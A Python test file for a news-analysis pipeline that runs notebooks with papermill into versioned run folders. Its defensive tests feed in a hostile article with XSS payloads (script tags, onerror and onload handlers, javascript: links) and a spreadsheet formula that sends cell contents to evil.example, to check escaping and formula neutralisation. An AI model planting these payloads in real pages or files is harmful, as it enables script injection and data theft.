"""The report runner and the run folder: papermill executes the notebooks on the seeds, and failures are safe."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from conftest import SHARED_SEEDS, tree_digest

from analysis import config
from analysis.__main__ import main
from analysis.report import ReportFailed, ensure_kernel, run_report
from analysis.run_folders import publish
from analysis.tables import COLUMNS, read_table

SEEDS_ONLY = {"corpus_dirs": ["seeds"]}


@pytest.fixture(scope="session")
def reports_dir(tmp_path_factory):
    return tmp_path_factory.mktemp("reports")


@pytest.fixture(scope="session")
def good_run(reports_dir, seed_digest):
    # seed_digest is taken before the run, so test_seeds_unchanged compares before and after.
    return run_report("seeds", overrides=SEEDS_ONLY, reports_dir=reports_dir, progress=False)


def test_run_folder_contract(good_run, reports_dir):
    run = good_run.run_dir
    assert (reports_dir / "latest").resolve() == run.resolve()
    for name, columns in COLUMNS.items():
        assert list(read_table(run / "tables" / f"{name}.csv").columns) == columns
    figures = {p.name for p in (run / "figures").iterdir()}
    for name in [
        "01_articles_by_source_and_date",
        "01_tokens_per_article",
        "01_removals_by_rule",
        "02_alias_resolution",
        "02_top_entities_by_type",
        "02_entity_heatmap",
        "02_cooccurrence",
        "03_theme_shares",
        "03_trade_figures",
        "04_topic_quality",
        "04_topic_top_words",
        "04_topics_by_article",
        "04_topics_vs_themes",
        "05_keyness",
    ]:
        assert {f"{name}.png", f"{name}.svg"} <= figures
    names = ["01_corpus", "02_entities", "03_themes", "04_topics", "05_compare"]
    assert sorted(p.name for p in (run / "notebooks").iterdir()) == sorted([f"{n}.ipynb" for n in names] + [f"{n}.html" for n in names])
    assert (run / "report.html").exists() and (run / "tables" / "changes.csv").exists()
    entity_columns = {
        "entity_mentions": ["doc_id", "para_id", "entity", "type", "surface", "start", "end", "source"],
        "entity_counts": ["doc_id", "entity", "type", "count"],
        "entity_cooccurrence": ["entity_a", "entity_b", "paragraphs"],
        "entity_candidates": ["candidate", "count", "documents", "example", "type", "forms"],
        "paragraph_themes": ["doc_id", "para_id", "theme", "score", "evidence"],
        "theme_summary": ["doc_id", "theme", "paragraphs", "share_paragraphs", "tokens", "share_tokens"],
        "topics": ["model", "topic_id", "label", "terms", "coherence", "stability"],
        "topic_quality": ["model", "k", "coherence", "diversity", "stability"],
    }
    for name, columns in entity_columns.items():
        assert list(read_table(run / "tables" / f"{name}.csv").columns) == columns


def visible_text(page: str) -> str:
    """What a reader of report.html sees: no folded code, no image data, no tags."""
    import html as html_module
    import re

    page = re.sub(r"<details class=\"code\">.*?</details>", "", page, flags=re.DOTALL)
    page = re.sub(r"<img[^>]*>", "", page)
    return html_module.unescape(re.sub(r"<[^>]+>", " ", page))


def test_the_report_reads_cleanly_and_can_be_navigated(good_run):
    import re

    page = (good_run.run_dir / "report.html").read_text(encoding="utf-8")
    text = visible_text(page)
    for leak in ("dtype:", "NaN", "<IPython", "Warning", str(config.PROJECT_ROOT), str(good_run.run_dir.parent)):
        assert leak not in text, leak
    assert not re.search(r"\d\.\d+e[+-]\d\d", text)  # no scientific notation
    assert not re.search(r"\bnan\b|\bNone\b", text)
    # Every saved chart appears once, numbered, with a caption naming its tables and alt text read off the figure.
    figures = re.findall(r'<figure id="figure-(\d+)"><img alt="([^"]*)"[^>]*><figcaption>(.*?)</figcaption></figure>', page, re.DOTALL)
    assert [int(n) for n, _, _ in figures] == list(range(1, len(list((good_run.run_dir / "figures").glob("*.png"))) + 1))
    for number, alt, caption in figures:
        assert len(alt) > 30 and alt != "chart", (number, alt)
        assert f"Figure {number}</a>." in caption and "Drawn from <code>" in caption and ".csv</code>" in caption, caption
    assert page.count("<img") == len(figures)
    # The contents reach every section of every notebook, and every link inside the page lands somewhere.
    ids = set(re.findall(r'id="([^"]+)"', page))
    assert set(re.findall(r'href="#([^"]+)"', page)) <= ids
    contents = re.search(r'<nav class="toc">.*?</nav>', page, re.DOTALL).group(0)
    for heading in ("05_compare-keyword-in-context-and-collocates", "03_themes-trade-figures", "01_corpus-what-cleaning-removed"):
        assert f'href="#{heading}"' in contents and heading in ids


def test_notebook_tables_match_the_library(good_run, seed_tables):
    tables = good_run.run_dir / "tables"
    for name in ("documents", "paragraphs", "removed", "captions", "sentences"):
        written = read_table(tables / f"{name}.csv")
        pd.testing.assert_frame_equal(written, getattr(seed_tables, name), check_dtype=False)


def test_entity_tables_match_the_library(good_run, seed_tables):
    from analysis.entities import EntityMatcher, count_mentions, find_mentions, load_gazetteer
    from analysis.ner import NameRecogniser

    mentions = find_mentions(
        seed_tables.paragraphs, EntityMatcher(load_gazetteer()), recogniser=NameRecogniser.load(), sentences=seed_tables.sentences
    )
    tables = good_run.run_dir / "tables"
    pd.testing.assert_frame_equal(read_table(tables / "entity_mentions.csv"), mentions, check_dtype=False)
    pd.testing.assert_frame_equal(read_table(tables / "entity_counts.csv"), count_mentions(mentions), check_dtype=False)


def test_amounts_table_of_the_run(good_run):
    amounts = read_table(good_run.run_dir / "tables" / "amounts.csv")
    assert amounts.columns[:9].tolist() == ["doc_id", "para_id", "kind", "value", "currency", "qualifier", "year", "partners", "text"]
    kazakh = amounts[amounts["doc_id"] == "002_158d66d5944f3519"]
    assert kazakh[["value", "qualifier", "year"]].values.tolist() == [[28e9, "", 2023], [20e9, "more_than", 2024], [30e9, "target", 2025]]


def test_topic_tables_of_the_run(good_run):
    topics = read_table(good_run.run_dir / "tables" / "topics.csv")
    assert set(topics["model"]) == {"lda", "nmf"} and topics.groupby("model").size().tolist() == [4, 4]
    doc_topics = read_table(good_run.run_dir / "tables" / "doc_topics.csv")
    assert doc_topics.columns[:4].tolist() == ["doc_id", "para_id", "topic_id", "weight"]
    assert doc_topics.groupby(["doc_id", "para_id"])["weight"].sum().between(0.9, 1.001).all()  # rounded to 4 places


def test_manifest(good_run):
    manifest = json.loads((good_run.run_dir / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["status"] == "ok"
    assert manifest["parameters"]["corpus_dirs"] == ["seeds"]
    assert [f["path"] for f in manifest["corpus_files"]] == [f"seeds/{p.name}" for p in sorted(config.SEEDS_DIR.glob("*.txt"))]
    assert all(len(f["sha256"]) == 64 for f in manifest["corpus_files"])
    assert manifest["packages"]["pandas"] == pd.__version__
    assert [n["notebook"] for n in manifest["notebooks"]] == [
        "01_corpus.ipynb",
        "02_entities.ipynb",
        "03_themes.ipynb",
        "04_topics.ipynb",
        "05_compare.ipynb",
    ]
    assert manifest["notebooks"][0]["seconds"] > 0


def test_executed_notebook_records_its_parameters(good_run):
    nb = nbformat.read(good_run.run_dir / "notebooks" / "01_corpus.ipynb", as_version=4)
    assert nb.metadata["papermill"]["parameters"]["corpus_dirs"] == ["seeds"]
    assert nb.metadata["papermill"]["parameters"]["run_dir"] == str(good_run.run_dir)


def test_seeds_unchanged(good_run, seed_digest):
    assert tree_digest(config.SEEDS_DIR) == seed_digest
    if SHARED_SEEDS.is_dir():
        assert tree_digest(config.SEEDS_DIR) == tree_digest(SHARED_SEEDS)


def test_failed_run_leaves_latest_alone(good_run, reports_dir, tmp_path):
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(ReportFailed, match=r"the pipeline failed with EmptyCorpus: no readable .txt article in .*empty") as failure:
        run_report("seeds", overrides={"corpus_dirs": [str(empty)]}, reports_dir=reports_dir, progress=False)
    assert (reports_dir / "latest").resolve() == good_run.run_dir.resolve()
    failed = sorted(p for p in (reports_dir / "seeds").iterdir() if p.is_dir() and not p.is_symlink() and p != good_run.run_dir)[-1]
    manifest = json.loads((failed / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["status"] == "failed" and manifest["pipeline"]["error"].startswith("EmptyCorpus")
    assert str(failed) in str(failure.value)


def test_a_failing_cell_is_named_and_leaves_latest_alone(tmp_path):
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": config.KERNEL_NAME, "display_name": "Python", "language": "python"}
    params = nbformat.v4.new_code_cell(
        'corpus_dirs: list = []  # folders\nsample_limit: int = 0  # sample\nrun_dir: str = ""  # run folder'
    )
    params.metadata["tags"] = ["parameters"]
    nb.cells = [params, nbformat.v4.new_code_cell("x = 1"), nbformat.v4.new_code_cell("raise ValueError('boom')")]
    notebooks = tmp_path / "notebooks"
    notebooks.mkdir()
    nbformat.write(nb, notebooks / "98_fail.ipynb")
    reports = tmp_path / "reports"
    with pytest.raises(ReportFailed, match=r"98_fail.ipynb failed in cell 4 with ValueError: boom"):  # counts the injected parameters cell
        run_report(
            "seeds", overrides=SEEDS_ONLY, notebooks=("98_fail.ipynb",), notebooks_dir=notebooks, reports_dir=reports, progress=False
        )
    assert not (reports / "latest").exists() and not (reports / "seeds" / "latest").exists()
    [run] = [p for p in (reports / "seeds").iterdir() if p.is_dir()]
    assert (run / "notebooks" / "98_fail.ipynb").exists()
    assert json.loads((run / "manifest.json").read_text(encoding="utf-8"))["notebooks"][0]["cell"] == 4


def test_a_dead_kernel_fails_safely(tmp_path):
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": config.KERNEL_NAME, "display_name": "Python", "language": "python"}
    params = nbformat.v4.new_code_cell(
        'corpus_dirs: list = []  # folders\nsample_limit: int = 0  # sample\nrun_dir: str = ""  # run folder'
    )
    params.metadata["tags"] = ["parameters"]
    nb.cells = [params, nbformat.v4.new_code_cell("import os\nos._exit(1)")]
    notebooks = tmp_path / "notebooks"
    notebooks.mkdir()
    nbformat.write(nb, notebooks / "99_crash.ipynb")
    reports = tmp_path / "reports"
    with pytest.raises(ReportFailed, match="99_crash.ipynb failed"):
        run_report(
            "seeds", overrides=SEEDS_ONLY, notebooks=("99_crash.ipynb",), notebooks_dir=notebooks, reports_dir=reports, progress=False
        )
    assert not (reports / "latest").exists()
    [run] = [p for p in (reports / "seeds").iterdir() if p.is_dir()]
    manifest = json.loads((run / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["status"] == "failed" and "Dead" in manifest["notebooks"][0]["error"]


def test_each_configuration_publishes_to_its_own_folder(good_run, reports_dir, tmp_path):
    teaching = tmp_path / "teaching.yaml"
    teaching.write_text("corpus_dirs: [seeds]\nsample_limit: 2\n", encoding="utf-8")
    run = run_report(teaching, reports_dir=reports_dir, progress=False, overrides=SMALL_RUN)
    assert run.run_dir.parent == reports_dir / "teaching" and (reports_dir / "teaching" / "latest").resolve() == run.run_dir.resolve()
    assert (reports_dir / "latest").resolve() == (reports_dir / "seeds" / "latest").resolve() == good_run.run_dir.resolve()
    again = run_report(teaching, reports_dir=reports_dir, progress=False, overrides={**SMALL_RUN, "sample_limit": 3})
    changes = read_table(again.run_dir / "tables" / "changes.csv")
    assert changes.iloc[0][["section", "item", "note"]].tolist() == ["configuration", "sample_limit", "2 -> 3"]
    assert set(changes.loc[changes["section"] == "articles", "note"]) == {"after the change of sample_limit"}


def test_publish_moves_the_link(tmp_path):
    first, second = tmp_path / "a", tmp_path / "b"
    first.mkdir()
    second.mkdir()
    publish(first, tmp_path / "latest")
    publish(second, tmp_path / "latest")
    assert os.readlink(tmp_path / "latest") == "b"


@pytest.mark.parametrize(
    ("notebook", "extra", "table"),
    [
        ("01_corpus.ipynb", [], "documents.csv"),
        ("02_entities.ipynb", [], "entity_counts.csv"),
        ("03_themes.ipynb", [], "amounts.csv"),
        ("04_topics.ipynb", ["-y", "{k_values: [2, 3], n_topics: 2, n_seeds: 2}"], "topics.csv"),
    ],
)
def test_notebook_runs_alone_with_the_papermill_command_line(tmp_path, notebook, extra, table):
    """Each notebook on its own, in an empty run folder, with `papermill` and a named run configuration."""
    kernel = ensure_kernel()
    out = tmp_path / "out.ipynb"
    cmd = [
        sys.executable,
        "-m",
        "papermill",
        str(config.NOTEBOOKS_DIR / notebook),
        str(out),
        "-f",
        str(config.PARAMS_DIR / "teaching.yaml"),
        "-p",
        "run_dir",
        str(tmp_path / "run"),
        *extra,
        "-k",
        kernel,
        "--no-progress-bar",
    ]
    subprocess.run(cmd, check=True, cwd=config.NOTEBOOKS_DIR, capture_output=True, timeout=600)
    docs = read_table(tmp_path / "run" / "tables" / "documents.csv")
    assert len(docs) == 3  # teaching.yaml reads a sample of three articles
    assert not read_table(tmp_path / "run" / "tables" / table).empty


def test_kernel_runs_this_interpreter():
    from jupyter_client.kernelspec import KernelSpecManager

    spec = KernelSpecManager().get_kernel_spec(ensure_kernel())
    assert os.path.realpath(spec.argv[0]) == os.path.realpath(sys.executable)


def test_a_stale_kernel_of_the_same_name_elsewhere_is_not_used(tmp_path, monkeypatch):
    """A user-level kernel called news-analysis (another checkout's, say) must not run our notebooks."""
    from jupyter_client.kernelspec import KernelSpecManager

    stale = tmp_path / "user" / "kernels" / config.KERNEL_NAME
    stale.mkdir(parents=True)
    (stale / "kernel.json").write_text(
        json.dumps({"argv": ["/usr/bin/false", "-f", "{connection_file}"], "display_name": "stale", "language": "python"})
    )
    monkeypatch.setenv("JUPYTER_DATA_DIR", str(tmp_path / "user"))
    monkeypatch.delenv("JUPYTER_PATH", raising=False)
    spec = KernelSpecManager().get_kernel_spec(ensure_kernel())
    assert os.path.realpath(spec.argv[0]) == os.path.realpath(sys.executable)


def test_cli_names_an_unknown_parameter(capsys, tmp_path):
    assert main(["report", "--quiet", "-p", "modle", "lda"]) == 2
    assert "no notebook has the parameter(s) modle" in capsys.readouterr().err


def test_cli_says_one_line_per_step_and_nothing_when_quiet(capfd, monkeypatch, tmp_path):
    """What cron mails: no library logs, no kernel warnings, no progress bars off a terminal; --quiet prints nothing."""
    import functools

    from analysis import report

    monkeypatch.setattr(report, "run_report", functools.partial(report.run_report, reports_dir=tmp_path / "reports"))
    assert main(["report", "--no-cache", "-p", "corpus_dirs", "[seeds]"]) == 0
    out, err = capfd.readouterr()
    assert err == "", err[-2000:]  # the kernels' "running over TCP without encryption" warning would land here
    assert "\x1b" not in out and "\r" not in out
    lines = out.splitlines()
    assert lines[0].startswith("tables: 5 articles analysed in ")
    assert sorted(line.split(":")[0] for line in lines[1:-1]) == sorted(report.NOTEBOOKS)
    assert all(": ok in " in line for line in lines[1:-1])
    assert lines[-1].startswith("report ok: 5 articles, 5 notebooks (0 from the cache)") and lines[-1].endswith("published as seeds/latest")
    assert main(["report", "--quiet", "-p", "corpus_dirs", "[seeds]"]) == 0
    assert capfd.readouterr() == ("", "")
    assert len(list((tmp_path / "reports" / "seeds").glob("2*"))) == 2


def test_cli_names_an_unknown_configuration(capsys):
    assert main(["report", "--params", "no-such-run", "--quiet"]) == 2
    assert "no-such-run.yaml not found" in capsys.readouterr().err


EVIL_ARTICLE = (
    "Putin <script>alert('judul')</script> Tiba di Bishkek\n"
    "Liputan6.com, Bishkek - Presiden Vladimir Putin tiba di Kyrgyzstan <script>alert(1)</script> pada Kamis (12/10/2023).\n"
    "Putin bertemu Presiden Sadyr Japarov. Omzet perdagangan Rusia dan Kyrgyzstan naik 37 persen tahun lalu.\n"
    "Pangkalan udara Rusia di Kant memperkuat kerja sama pertahanan kedua negara <img src=x onerror=alert(2)>.\n"
    "Baca selengkapnya [di sini](javascript:alert(3)) dan $$\\href{javascript:alert(4)}{x}$$ menurut TASS.\n"
    "Kremlin menolak berkomentar </textarea><svg onload=alert(5)> soal kunjungan itu.\n"
    '=HYPERLINK("http://evil.example/?q="&A1, "Klik di sini untuk membaca berita Putin selengkapnya")\n'
)
EVIL_NAME = "zz_<img src=y onerror=alert(6)>evil.txt"  # markup in a file name
SMALL_RUN = {"k_values": [2, 3], "n_topics": 2, "n_seeds": 2}


@pytest.fixture(scope="session")
def evil_runs(tmp_path_factory):
    """Two report runs on a small corpus with markup in an article: one seed plus a hostile copy."""
    corpus = tmp_path_factory.mktemp("evil_corpus")
    (corpus / "000_seed.txt").write_bytes((config.SEEDS_DIR / "000_0375a09f782309bd.txt").read_bytes())
    (corpus / EVIL_NAME).write_text(EVIL_ARTICLE, encoding="utf-8")
    reports = tmp_path_factory.mktemp("evil_reports")
    overrides = {"corpus_dirs": [str(corpus)], **SMALL_RUN}
    first = run_report("seeds", overrides=overrides, reports_dir=reports, progress=False)
    second = run_report("seeds", overrides=overrides, reports_dir=reports, progress=False)
    return first, second


def test_article_markup_shows_as_text(evil_runs):
    import re

    run = evil_runs[0].run_dir
    page = (run / "report.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # the paragraph is shown, escaped
    assert "<script" not in page.lower() and "<img src=x" not in page
    for name, text in [("report.html", page)] + [(p.name, p.read_text(encoding="utf-8")) for p in (run / "notebooks").glob("*.html")]:
        tags = re.findall(r"<[a-zA-Z][^>]*>", text)  # every live tag of the page
        assert not [t for t in tags if re.search(r"\son\w+\s*=", t)], name  # no event handler came from the article
        assert not [t for t in tags if "javascript:" in t.lower()], name  # no javascript: link
        assert "<svg" not in text and "</textarea><svg" not in text and "<img src=y" not in text, name
        assert "<script>alert" not in text, name


def test_spreadsheet_copies_neutralise_formulas(evil_runs):
    import csv

    tables = evil_runs[0].run_dir / "tables"
    formula = '=HYPERLINK("http://evil.example/?q="&A1, "Klik di sini untuk membaca berita Putin selengkapnya")'
    assert formula in read_table(tables / "paragraphs.csv")["text"].tolist()  # the table keeps the text as written
    with (tables / "spreadsheet" / "paragraphs.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + formula in cells and formula not in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit())]
    copies = {p.name for p in (tables / "spreadsheet").glob("*.csv")}
    assert copies == {p.name for p in tables.glob("*.csv")}


def test_two_runs_give_identical_tables(evil_runs):
    first, second = (r.run_dir / "tables" for r in evil_runs)
    names = sorted(p.name for p in first.glob("*.csv"))
    assert names == sorted(p.name for p in second.glob("*.csv")) and len(names) >= 15
    for name in names:
        assert (first / name).read_bytes() == (second / name).read_bytes(), name


def test_second_run_compares_with_the_first(evil_runs):
    manifest = json.loads((evil_runs[1].run_dir / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["previous_run"] == evil_runs[0].run_dir.name
    assert read_table(evil_runs[1].run_dir / "tables" / "changes.csv").empty  # same corpus, nothing changed


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--hide-scrollbars",
]


# Run in a copy of the report (the report itself runs no script): measures what Chromium laid out.
LAYOUT_CHECK = """<script>
window.addEventListener("load", () => {
  const page = document.documentElement;
  const figures = [...document.querySelectorAll("figure img")].map(img => ({
    alt: img.alt.slice(0, 60), natural: img.naturalWidth, shown: img.getBoundingClientRect().width,
    height: img.getBoundingClientRect().height, right: img.getBoundingClientRect().right}));
  const out = document.createElement("pre");
  out.id = "layout-check";
  out.textContent = JSON.stringify({viewport: window.innerWidth, page: page.scrollWidth, figures});
  document.body.appendChild(out);
});
</script>"""


def chromium_layout(report: Path, tmp_path: Path, width: int = 1280) -> dict:
    """What headless Chromium laid out for ``report``: the page's width against the window's, and each chart's size."""
    import re

    probe = report.with_name("report-layout-check.html")
    probe.write_text(report.read_text(encoding="utf-8").replace("</body>", LAYOUT_CHECK + "</body>"), encoding="utf-8")
    try:
        dom = subprocess.run(
            [
                CHROMIUM,
                *CHROMIUM_FLAGS,
                f"--user-data-dir={tmp_path / 'profile-layout'}",
                f"--window-size={width},1000",
                "--virtual-time-budget=10000",
                "--dump-dom",
                probe.as_uri(),
            ],
            capture_output=True,
            text=True,
            timeout=180,
        )
    finally:
        probe.unlink()
    assert dom.returncode == 0, dom.stderr[-2000:]
    found = re.search(r'<pre id="layout-check">(.*?)</pre>', dom.stdout, re.DOTALL)
    assert found, "the layout check did not run"
    import html as html_module

    return json.loads(html_module.unescape(found.group(1)))


def assert_laid_out_well(layout: dict) -> None:
    """No horizontal overflow of the page; every chart loaded, within the page, and not shrunk below half its size
    (a chart drawn for a wider page would have illegible text)."""
    assert layout["page"] <= layout["viewport"], layout["page"]
    assert layout["figures"], "no chart in the report"
    for figure in layout["figures"]:
        assert figure["natural"] > 0 and figure["height"] > 40, figure  # loaded, not blank
        assert figure["right"] <= layout["viewport"], figure
        assert figure["shown"] >= 0.45 * figure["natural"], figure


@pytest.mark.skipif(CHROMIUM is None and not os.environ.get("CI"), reason="Debian's chromium is not installed (.ci/run installs it)")
def test_report_renders_in_headless_chromium(good_run, tmp_path):
    from PIL import Image

    assert CHROMIUM, "chromium is missing: .ci/run should have installed it"
    report = good_run.run_dir / "report.html"
    common = [CHROMIUM, *CHROMIUM_FLAGS, f"--user-data-dir={tmp_path / 'profile'}"]
    dom = subprocess.run([*common, "--dump-dom", report.as_uri()], capture_output=True, text=True, timeout=120)
    assert dom.returncode == 0, dom.stderr[-2000:]
    assert "What changed since the previous run" in dom.stdout and "Topic models a researcher can trust" in dom.stdout
    shot = tmp_path / "report.png"
    result = subprocess.run(
        [*common, f"--screenshot={shot}", "--window-size=1280,2400", report.as_uri()], capture_output=True, text=True, timeout=120
    )
    assert result.returncode == 0 and shot.exists(), result.stderr[-2000:]
    image = Image.open(shot).convert("L")
    dark = sum(image.histogram()[:200])  # pixels darker than light grey
    assert dark > 0.01 * image.width * image.height  # text and charts, not a blank page
    assert_laid_out_well(chromium_layout(report, tmp_path))


BENCHCORPUS = config.PROJECT_ROOT.parent / "shared" / "benchcorpus" / "clickid-2019.tar.gz"


@pytest.mark.skipif(not BENCHCORPUS.exists(), reason="the benchmark corpus ../shared/benchcorpus/ is not beside the project")
def test_the_larger_report_completes_on_real_news(tmp_path):
    """The whole report of the larger configuration on 300 real articles of the benchmark corpus (read, never copied into the project)."""
    import tarfile

    corpus = tmp_path / "raw"
    corpus.mkdir()
    with tarfile.open(BENCHCORPUS) as tar:
        for member in tar:
            if member.isfile() and member.name.endswith(".txt"):
                (corpus / Path(member.name).name).write_bytes(tar.extractfile(member).read())
                if len(list(corpus.iterdir())) == 300:
                    break
    result = run_report(
        "larger",
        overrides={"corpus_dirs": [str(corpus)], "k_values": [5, 10], "n_topics": 10},
        reports_dir=tmp_path / "reports",
        progress=False,
    )
    assert result.manifest["status"] == "ok" and len(read_table(result.run_dir / "tables" / "documents.csv")) == 300
    assert (result.run_dir / "report.html").stat().st_size < 5_000_000
    assert set(read_table(result.run_dir / "tables" / "topics.csv")["model"]) == {"lda", "nmf"}
    if CHROMIUM:  # the charts of 300 real articles fit the page and stay legible
        assert_laid_out_well(chromium_layout(result.run_dir / "report.html", tmp_path))


def test_two_runs_of_one_configuration_never_interleave(tmp_path):
    """While one run holds the configuration's lock, a second stops at once with a message and touches nothing;
    a holder killed with SIGKILL leaves no stale lock."""
    import signal
    import time

    from analysis.run_folders import LOCK_FILE, ReportBusy, report_lock

    folder = tmp_path / "reports" / "seeds"
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            (
                "import sys, time; from pathlib import Path; from analysis.run_folders import report_lock\n"
                f"with report_lock(Path({str(folder)!r})):\n    print('held', flush=True); time.sleep(60)\n"
            ),
        ],
        cwd=config.PROJECT_ROOT,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(ReportBusy, match=rf"another report of seeds is running \(pid {holder.pid}, started .*\)"):
            run_report("seeds", overrides=SEEDS_ONLY, reports_dir=tmp_path / "reports", progress=False)
        assert sorted(p.name for p in folder.iterdir()) == [LOCK_FILE]  # no run folder was made
    finally:
        holder.send_signal(signal.SIGKILL)
        holder.wait(timeout=30)
    started = time.perf_counter()
    with report_lock(folder):  # the killed holder's lock went with its process
        assert time.perf_counter() - started < 5


def test_failed_run_folders_are_pruned_to_the_newest_few(tmp_path):
    from analysis.run_folders import KEEP_FAILED, prune_failed

    folder = tmp_path / "seeds"
    for n, status in enumerate(["ok", "failed", "failed", None, "running", "ok", "failed", "failed"]):
        run = folder / f"2026010{n}T000000Z"
        run.mkdir(parents=True)
        if status:
            (run / "manifest.json").write_text(json.dumps({"status": status}), encoding="utf-8")
    removed = prune_failed(folder)
    assert [p.name for p in removed] == ["20260101T000000Z", "20260102T000000Z", "20260103T000000Z"]  # the oldest of six unfinished
    left = sorted(p.name for p in folder.iterdir())
    assert left == ["20260100T000000Z", "20260104T000000Z", "20260105T000000Z", "20260106T000000Z", "20260107T000000Z"]
    assert KEEP_FAILED == 3 and prune_failed(folder) == []


def test_a_second_run_waits_for_the_first_to_end(tmp_path):
    """Without --no-wait, a run that finds the lock held says so once and goes on when the holder ends."""
    import time

    from analysis.run_folders import report_lock

    folder = tmp_path / "reports" / "seeds"
    code = (
        "import sys, time; from pathlib import Path; from analysis.run_folders import report_lock\n"
        f"with report_lock(Path({str(folder)!r})):\n    print('held', flush=True); time.sleep(2)\n"
    )
    holder = subprocess.Popen([sys.executable, "-c", code], cwd=config.PROJECT_ROOT, stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline().strip() == "held"
    said, started = [], time.monotonic()
    with report_lock(folder, wait=True, on_wait=said.append):
        waited = time.monotonic() - started
    assert waited > 1.5  # the lock came only once the holder, which holds it for 2 s, let it go
    holder.wait(timeout=30)
    assert len(said) == 1 and said[0].startswith(f"waiting for another report of seeds to finish (pid {holder.pid}")
